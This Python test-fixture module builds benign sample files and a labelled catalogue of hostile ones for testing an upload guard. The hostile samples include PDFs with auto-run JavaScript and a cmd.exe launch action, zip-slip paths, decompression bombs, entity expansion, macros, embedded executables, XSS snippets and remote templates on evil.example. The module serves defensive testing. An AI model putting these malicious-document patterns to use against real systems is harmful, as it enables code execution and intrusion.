"""Files of every kind, made here: good ones and the hostile ones a guard must refuse."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pillow_heif
from PIL import Image

CMS = bytes.fromhex("3082040006092a864886f70d010702a08203f1") + b"\x02\x01\x01" * 200
PDF_END = b"\nstartxref\n9\n%%EOF"
OLD_OFFICE = bytes.fromhex("d0cf11e0a1b11ae1")
OOXML_TYPES = b'<?xml version="1.0"?><Types/>'


def picture(format_: str, size: tuple[int, int] = (300, 200), **how: object) -> bytes:
    """A picture; HEIC too."""
    image = Image.new("RGB", size, (200, 30, 60))
    out = io.BytesIO()
    if format_ == "HEIC":
        pillow_heif.from_pillow(image).save(out)
    else:
        image.save(out, format_, **how)
    return out.getvalue()


def archive(*members: tuple[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP with members in an order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as target:
        for name, content in members:
            target.writestr(name, content)
    return out.getvalue()


def document(kind: str, *more: tuple[str, bytes]) -> bytes:
    """A document of Office with further members."""
    main = {
        "docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml",
    }[kind]  # fmt: skip
    return archive(("[Content_Types].xml", OOXML_TYPES), (main, b"<main/>"), *more)


def open_document(kind: str, *more: tuple[str, bytes]) -> bytes:
    """A document of OpenDocument with further members."""
    name = {"odt": "text", "ods": "spreadsheet"}[kind]
    mimetype = f"application/vnd.oasis.opendocument.{name}".encode()
    return archive(("mimetype", mimetype), ("content.xml", b"<office/>"), *more)


def container(*more: tuple[str, bytes]) -> bytes:
    """A signed container (ASiC-E)."""
    mimetype = b"application/vnd.etsi.asic-e+zip"
    return archive(("mimetype", mimetype), ("META-INF/signatures001.p7s", CMS), *more)


def workbook() -> bytes:
    """A workbook as openpyxl writes it."""
    out = io.BytesIO()
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Орган", 5])
    book.save(out)
    return out.getvalue()


def paper(catalog: bytes = b"", *objects: bytes, trailer: bytes = b"", pages: int = 1) -> bytes:
    """A PDF with something more in its catalog, further objects from number 9, and its trailer."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(pages))
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>"] * pages,
    ]
    numbered = dict(enumerate(bodies, 1)) | dict(enumerate(objects, 9))
    out = b"%PDF-1.7\n"
    places: dict[int, int] = {}
    for number, body in numbered.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref, size = len(out), max(numbered) + 1
    table = b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n"
        for n in range(size)
    )
    ending = b"<< /Size %d /Root 1 0 R " % size + trailer + b" >>"
    out += b"xref\n0 %d\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (size, table, ending, xref)
    return out


def stream(head: bytes, data: bytes) -> bytes:
    """The body of a stream object."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def box(kind: bytes, content: bytes = b"") -> bytes:
    """A box of MP4."""
    return struct.pack(">L4s", 8 + len(content), kind) + content


def film() -> bytes:
    """An MP4 without a picture."""
    return box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + box(b"moov", b"\0" * 64) + box(b"mdat", b"x")


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    """A part that lists what a document is related to."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


def png_of_size(width: int, height: int) -> bytes:
    """A small PNG that says it has so many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def said_sizes(content: bytes, unpacked: int) -> bytes:
    """An archive of one member that says in both its headers that it unpacks to so many bytes."""
    data = bytearray(content)
    struct.pack_into("<L", data, 22, unpacked)
    struct.pack_into("<L", data, data.rfind(b"PK\x01\x02") + 24, unpacked)
    return bytes(data)


def locked(content: bytes) -> bytes:
    """An archive of one member that says it is encrypted."""
    data = bytearray(content)
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def many_entries(count: int) -> bytes:
    """A directory of so many entries, and an end that says there is one."""
    entry = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
    )
    directory = (entry + b"a") * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), 0, 0)
    return b"PK\x03\x04" + directory + end


def quine_of_ratio(megabytes: int) -> bytes:
    """Zeros, packed a thousand to one."""
    return archive(("[Content_Types].xml", OOXML_TYPES), ("xl/workbook.xml", b"<main/>"),
                   ("xl/worksheets/sheet1.xml", b"\0" * megabytes * 1024 * 1024))  # fmt: skip


GOOD: dict[str, Callable[[], bytes]] = {
    "a.pdf": paper,
    "a.docx": lambda: document("docx"),
    "a.xlsx": workbook,
    "a.pptx": lambda: document("pptx"),
    "a.odt": lambda: open_document("odt"),
    "a.ods": lambda: open_document("ods"),
    "a.jpg": lambda: picture("JPEG"),
    "a.png": lambda: picture("PNG"),
    "a.webp": lambda: picture("WEBP"),
    "a.heic": lambda: picture("HEIC"),
    "a.mp4": film,
    "a.txt": "Зміст".encode,
    "a.csv": "орган;кількість\nМВС;5\n".encode,
    "a.zip": lambda: archive(("звіт.pdf", paper()), ("фото/1.jpg", picture("JPEG"))),
    "a.p7s": lambda: CMS,
    "a.asice": lambda: container(("лист.pdf", paper())),
}
VARIANTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "text of Windows": ("a.txt", lambda: "Звіт про захід".encode("cp1251")),
    "text in UTF-16": ("a.txt", lambda: "Звіт".encode("utf-16")),
    "text with a mark": ("a.csv", lambda: "орган".encode("utf-8-sig")),
    "a progressive JPEG": ("a.jpeg", lambda: picture("JPEG", progressive=True)),
    "no ending": ("звіт", paper),
    "an ending of nobody": ("звіт.остаточний", paper),
    "links to pages": (
        "a.docx",
        lambda: document("docx", ("word/_rels/document.xml.rels", relations("hyperlink", "https://a"))),
    ),
    "a template on one's own disk": (
        "a.docx",
        lambda: document(
            "docx",
            ("word/_rels/settings.xml.rels", relations("attachedTemplate", "file:///C:/Users/a/N.dotm")),
        ),
    ),
    "a chart with its figures": (
        "a.pptx", lambda: document("pptx", ("ppt/embeddings/Excel_Sheet.xlsx", workbook())),
    ),
    "words of scripts within a stream": (
        "a.pdf", lambda: paper(b"", stream(b"/Type /XObject", b"/JS /Launch /EmbeddedFile")),
    ),
}  # fmt: skip
_JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
_PACKED_JS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "nothing": ("empty", "a.pdf", lambda: b""),
    "a program": ("unknown", "a.pdf", lambda: b"MZ\x90\0\3" + b"\0" * 500),
    "an ELF program": ("unknown", "a.txt", lambda: b"\x7fELF\2\1\1" + b"\0" * 500),
    "noise": ("unknown", "a.txt", lambda: bytes(range(256)) * 20),
    "signs without letters": ("unknown", "a.txt", lambda: b"\x95\x96\xa9\xae" * 40),
    "an archive of another kind": ("unknown", "a.zip", lambda: b"Rar!\x1a\x07\x01\0" + b"\1" * 9),
    "a gzip": ("unknown", "a.zip", lambda: b"\x1f\x8b\x08\0" + b"\0" * 99),
    "a film of another kind": ("unknown", "a.mp4", lambda: box(b"ftyp", b"qt  \0\0\0\0")),
    "AVIF": ("unknown", "a.heic", lambda: box(b"ftyp", b"avif\0\0\0\0")),
    "GIF": ("unknown", "a.png", lambda: picture("GIF")),
    "BMP": ("unknown", "a.png", lambda: picture("BMP")),
    "a workbook of the binary kind": (
        "unknown", "a.xlsx",
        lambda: archive(("[Content_Types].xml", OOXML_TYPES), ("xl/workbook.bin", b"x")),
    ),
    "a drawing of OpenDocument": (
        "unknown", "a.odt",
        lambda: archive(("mimetype", b"application/vnd.oasis.opendocument.graphics")),
    ),
    "an old document": ("old_office", "a.docx", lambda: OLD_OFFICE + b"\0" * 999),
    "a page": ("markup", "a.txt", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "a page named as a workbook": ("markup", "a.xlsx", lambda: b"<html><table></table></html>"),
    "a page behind spaces": ("markup", "a.txt", lambda: b"\xef\xbb\xbf \n\t<svg onload=alert(1)>"),
    "a page in UTF-16": ("markup", "a.txt", lambda: "<script>alert(1)</script>".encode("utf-16")),
    "a drawing": ("markup", "a.png", lambda: b"<?xml version='1.0'?><svg/>"),
    "columns named as a workbook": ("misnamed", "a.xlsx", lambda: "а;б\n1;2".encode()),
    "a picture named as a paper": ("misnamed", "a.pdf", lambda: picture("PNG")),
    "a paper named as a picture": ("misnamed", "a.jpg", paper),
    "a broken PDF": ("broken", "a.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "a PDF cut short": ("broken", "a.pdf", lambda: paper()[:-40]),
    "a PDF without pages": ("broken", "a.pdf", lambda: paper(pages=0)),
    "a PDF of noise": ("broken", "a.pdf", lambda: b"%PDF-1.7\n" + b"<<" * 9000 + PDF_END),
    "a locked PDF": ("locked", "a.pdf", lambda: paper(b"", trailer=b"/Encrypt 9 0 R")),
    "a PDF with a script": ("active_pdf", "a.pdf", lambda: paper(_JS)),
    "a script spelt in numbers": (
        "active_pdf", "a.pdf", lambda: paper(_JS.replace(b"/JavaScript /JS", b"/J#61vaScript")),
    ),
    "a packed script": (
        "active_pdf", "a.pdf", lambda: paper(b"", stream(_PACKED_JS, zlib.compress(b"9 0 " + _JS))),
    ),
    "a script packed unusually": (
        "active_pdf", "a.pdf",
        lambda: paper(b"", stream(b"/Type /ObjStm /Filter /LZWDecode", b"\x80\x0b")),
    ),
    "a PDF that starts programs": (
        "active_pdf", "a.pdf", lambda: paper(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    ),
    "a PDF with a file": (
        "files_in_pdf", "a.pdf", lambda: paper(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    ),
    "a bomb of packed objects": (
        "bomb", "a.pdf",
        lambda: paper(b"", stream(_PACKED_JS, zlib.compress(b" " * 200_000_000, 9))),
    ),
    "a document with macros": (
        "macros", "a.docx", lambda: document("docx", ("word/vbaProject.bin", b"x")),
    ),
    "macros by their type": (
        "macros", "a.xlsx",
        lambda: archive(("[Content_Types].xml", b"<Types><x t='macroEnabled'/></Types>"),
                        ("xl/workbook.xml", b"<main/>")),
    ),
    "macros of Excel 4": (
        "macros", "a.xlsx", lambda: document("xlsx", ("xl/macrosheets/sheet1.xml", b"<x/>")),
    ),
    "macros of OpenDocument": (
        "macros", "a.ods", lambda: open_document("ods", ("Basic/Standard/Module1.xml", b"<x/>")),
    ),
    "a link to another workbook": (
        "external", "a.xlsx", lambda: document("xlsx", ("xl/externalLinks/a.xml", b"<x/>")),
    ),
    "a template from a site": (
        "external", "a.docx",
        lambda: document("docx", ("word/_rels/settings.xml.rels",
                                  relations("attachedTemplate", "https://evil.example/t.dotm"))),
    ),
    "a template from a share": (
        "external", "a.docx",
        lambda: document("docx", ("word/_rels/settings.xml.rels",
                                  relations("attachedTemplate", r"\\evil\t.dotm"))),
    ),
    "a picture from a site": (
        "external", "a.docx",
        lambda: document("docx", ("word/_rels/document.xml.rels", relations("image", "https://a/p.png"))),
    ),
    "a section from elsewhere": (
        "external", "a.odt",
        lambda: archive(("mimetype", b"application/vnd.oasis.opendocument.text"),
                        ("content.xml", b" " * 65_530 + b"<text:section-source xlink:href='a'/>")),
    ),
    "an embedded object": (
        "embedded", "a.docx", lambda: document("docx", ("word/embeddings/oleObject1.bin", b"x")),
    ),
    "an embedded program": (
        "embedded", "a.pptx", lambda: document("pptx", ("ppt/embeddings/setup.exe", b"MZ")),
    ),
    "a control": ("embedded", "a.docx", lambda: document("docx", ("word/activeX/a.xml", b"<x/>"))),
    "macros in an embedded workbook": (
        "macros", "a.pptx",
        lambda: document("pptx", ("ppt/embeddings/a.xlsx",
                                  document("xlsx", ("xl/vbaProject.bin", b"x")))),
    ),
    "a workbook within an embedded workbook": (
        "embedded", "a.pptx",
        lambda: document("pptx", ("ppt/embeddings/a.xlsx",
                                  document("xlsx", ("xl/embeddings/b.xlsx", workbook())))),
    ),
    "a billion laughs": (
        "entities", "a.docx",
        lambda: document("docx", ("word/styles.xml", b"<!DOCTYPE x [<!ENTITY a 'ha'>]><x>&a;</x>")),
    ),
    "laughs among relations": (
        "entities", "a.docx",
        lambda: document("docx", ("_rels/.rels", b"<!DOCTYPE x [<!ENTITY a 'ha'>]><x>&a;</x>")),
    ),
    "laughs in UTF-16": (
        "entities", "a.docx",
        lambda: document("docx", ("word/styles.xml", "<!DOCTYPE x []>".encode("utf-16"))),
    ),
    "relations that are no XML": (
        "broken", "a.docx", lambda: document("docx", ("_rels/.rels", b"<<<")),
    ),
    "too many members": (
        "too_many_members", "a.zip", lambda: archive(*((f"{n}.txt", b"a") for n in range(501))),
    ),
    "a million members": ("too_many_members", "a.zip", lambda: many_entries(400_000)),
    "a name twice": (
        "twice", "a.zip", lambda: archive(("a.txt", b"a"), ("A.TXT", b"b")),
    ),
    "a way out": ("outside", "a.zip", lambda: archive(("../../etc/passwd", b"a"))),
    "a way out of Windows": ("outside", "a.zip", lambda: archive(("..\\..\\a.txt", b"a"))),
    "a name from the root": ("outside", "a.zip", lambda: archive(("/etc/passwd", b"a"))),
    "a name with a disk": ("outside", "a.zip", lambda: archive(("C:\\a.txt", b"a"))),
    "a locked archive": ("locked", "a.zip", lambda: locked(archive(("a.txt", b"a")))),
    "a locked OpenDocument": (
        "locked", "a.odt",
        lambda: open_document("odt", ("META-INF/manifest.xml", b"<m:encryption-data/>")),
    ),
    "packed by bzip2": (
        "packed_oddly", "a.zip", lambda: archive(("a.txt", b"a" * 99), packing=zipfile.ZIP_BZIP2),
    ),
    "packed by LZMA": (
        "packed_oddly", "a.zip", lambda: archive(("a.txt", b"a" * 99), packing=zipfile.ZIP_LZMA),
    ),
    "an empty archive": ("empty", "a.zip", lambda: archive()),
    "an archive cut short": ("broken", "a.zip", lambda: archive(("a.txt", b"a" * 999))[:-30]),
    "a bomb": ("bomb", "a.xlsx", lambda: quine_of_ratio(40)),
    "a member of sixty megabytes": ("bomb", "a.xlsx", lambda: quine_of_ratio(60)),
    "members of ninety-nine megabytes and more": (
        "bomb", "a.zip", lambda: archive(*((f"{n}.txt", b"a" * 40_000_000) for n in range(3))),
    ),
    "a size that lies": (
        "broken", "a.zip", lambda: said_sizes(archive(("a.txt", b"a" * 1_000_000)), 10),
    ),
    "an archive in an archive": (
        "nested", "a.zip", lambda: archive(("b.zip", archive(("a.txt", b"a")))),
    ),
    "a program in an archive": ("unknown", "a.zip", lambda: archive(("a.exe", b"MZ\0\0"))),
    "a page in an archive": ("markup", "a.zip", lambda: archive(("a.html", b"<html>"))),
    "a page in a signed container": ("markup", "a.asice", lambda: container(("a.html", b"<html>"))),
    "too many pixels": ("too_many_pixels", "a.png", lambda: png_of_size(60_000, 60_000)),
    "too many pixels of JPEG": (
        "too_many_pixels", "a.jpg",
        lambda: picture("JPEG", (64, 64)).replace(b"\0\x40\0\x40\3", b"\xff\xff\xff\xff\3"),
    ),
    "a JPEG cut short": ("broken", "a.jpg", lambda: picture("JPEG")[:-60]),
    "a PNG cut short": ("broken", "a.png", lambda: picture("PNG")[:-8]),
    "a PNG with a changed byte": (
        "broken", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDAT\0", 1),
    ),
    "a WebP cut short": ("broken", "a.webp", lambda: picture("WEBP")[:-9]),
    "a HEIC cut short": ("broken", "a.heic", lambda: picture("HEIC")[:-9]),
    "an MP4 cut short": ("broken", "a.mp4", lambda: film()[:-3]),
    "an MP4 without a list": ("broken", "a.mp4", lambda: box(b"ftyp", b"isom\0\0\0\0")),
}  # fmt: skip


def put(folder: Path, content: bytes) -> Path:
    """Content in a file."""
    path = folder / "content"
    path.write_bytes(content)
    return path
